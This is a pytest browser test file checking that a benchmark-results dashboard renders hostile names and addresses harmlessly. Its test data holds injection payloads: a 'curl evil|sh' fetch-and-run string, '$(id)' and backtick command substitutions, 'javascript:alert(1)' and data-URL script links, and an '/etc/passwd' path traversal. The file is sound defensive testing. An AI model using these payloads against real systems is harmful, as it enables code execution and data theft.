"""Names and addresses that attack: they are shown, and change nothing else."""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from browser import Browser
from dashboard_page import Show, draw_everything, open_everything, turn, write_page
from synthetic_rows import NASTY_DEVICE, base_row, compared, pair_row

pytestmark = pytest.mark.browser

WORDS = ("__proto__", "constructor", "toString", "hasOwnProperty", "then")

NAMED = ("family", "variant", "source", "precision", "device", "software", "host", "note", "flags")


def named(word: str, number: int, **changes: Any) -> dict[str, Any]:
    names = dict.fromkeys(NAMED, word)
    return base_row(trial_id=f"{number:016}", model=word, **names, **changes)


def test_names_of_what_every_object_has_are_only_names(show: Show) -> None:
    rows = [
        named(word, 2 * number, batch_size=1) | compared(100.0, 120.0 + number, 0.02)
        for number, word in enumerate(WORDS)
    ] + [
        named(word, 2 * number + 1, batch_size=8, verdict="failed", status=word, failed_mode=word)
        for number, word in enumerate(WORDS)
    ]
    first = [("model", "__proto__"), ("columns", "all")]
    browser = show(rows, first, folders={"__proto__": "."})
    for filters in ((), [("model", "__proto__")], [("device", "constructor")]):
        turn(browser, filters)
        open_everything(browser)
        assert browser.evaluate("Object.keys(Object.prototype)") == []
        inherited = "(() => { const all = []; for (const one in {}) all.push(one); return all; })()"
        assert browser.evaluate(inherited) == []
        words = browser.words("body")
        for wrong in ("[object", "native code", "undefined", "NaN"):
            assert wrong not in words
        assert "toString" in words


def test_an_address_puts_no_command_into_a_suggestion(browser: Browser, tmp_path: Path) -> None:
    page = write_page(tmp_path / "page.html", [pair_row(0, 120.0)])
    browser.open(f"{page.uri}#model=none")
    browser.wait("document.documentElement.dataset.ready === 'true'")
    for address, command in (
        ("model=zz&precision=x;curl evil|sh", "model=zz"),
        ("model=zz&source=$(id)&batch_size=8", "model=zz batch_size=8"),
        ("model=a b&resolution_px=224", "model=NAME resolution=224"),
        ("model=zz&resolution_px=224%0Aid", "model=zz"),
        ("model=`id`", "model=NAME"),
    ):
        browser.evaluate(f"void (location.hash = {address!r})")
        suggested = "document.querySelector('#answer-sub code')?.textContent"
        browser.wait(f"{suggested} === 'python -m xla_sweeps {command}'", timeout_s=10)


def test_marks_that_reverse_a_name_are_spelled_out(show: Show) -> None:
    """Two names that look alike otherwise stay two."""
    reverse, isolate = "\u202e", "\u2067"
    rows = [
        pair_row(1, 120.0, model=f"{reverse}05tenser"),
        pair_row(2, 130.0, model="05tenser", device=f"{isolate}A"),
    ]
    browser = show(rows, title=f"study {reverse}", draw=open_everything)
    words = browser.evaluate("document.body.textContent")
    assert not {reverse, isolate} & {*words}
    for shown in ("[U+202E]05tenser", "[U+2067]A", "study [U+202E]"):
        assert shown in words
    assert browser.evaluate("xlaSweeps.rows()") == 2


def test_a_log_is_linked_only_where_it_lies_in_the_results(show: Show, tmp_path: Path) -> None:
    logs = (
        "records/1/0.log",
        "javascript:alert(1)",
        "//evil.example/x",
        "../../../etc/passwd",
        "records/<b>/0.log",
    )
    rows = [
        pair_row(number, 120.0, batch_size=number, log=log, device=NASTY_DEVICE)
        for number, log in enumerate(logs, start=1)
    ]
    folders = {"results": "../my results"}
    browser = show(rows, [("columns", "all")], folders=folders, draw=draw_everything)
    links = browser.evaluate("[...document.querySelectorAll('.grid a')].map((link) => link.href)")
    assert [*map(unquote, links)] == [f"{tmp_path.parent.as_uri()}/my results/records/1/0.log"]


def test_a_run_is_linked_only_by_https(show: Show) -> None:
    runs = (
        "https://wandb.ai/me/xla-sweeps/runs/0123",
        "javascript:alert(1)",
        "https://wandb.ai@evil.example/x",
        "http://127.0.0.1:8080/me/xla/runs/4",
        'https://x/"onmouseover="alert(1)',
        " https://wandb.ai/me",
        "data:text/html,<script>alert(1)</script>",
    )
    rows = [pair_row(number, 120.0, batch_size=number) for number in range(1, len(runs) + 2)]
    addresses = {"results": {f"{number:016}": run for number, run in enumerate(runs, start=1)}}
    links = "[...document.querySelectorAll('main a[href]')].map((link) => link.href)"
    for filters, place in (
        ([("columns", "all")], ".grid"),
        ([("batch_size", "1")], "#answer-rows"),
    ):
        browser = show(rows, filters, runs=addresses, draw=draw_everything)
        assert {*browser.evaluate(links)} == {runs[0]}
        assert browser.evaluate(f"document.querySelectorAll('{place} a[href]').length") == 1
    show(rows, [("columns", "all")], runs=addresses, draw=draw_everything)
    assert runs[1] in browser.evaluate("document.querySelector('.grid').textContent")
    show(rows, runs={"__proto__": {}, "results": {}}, draw=draw_everything)
    assert browser.evaluate(links) == []
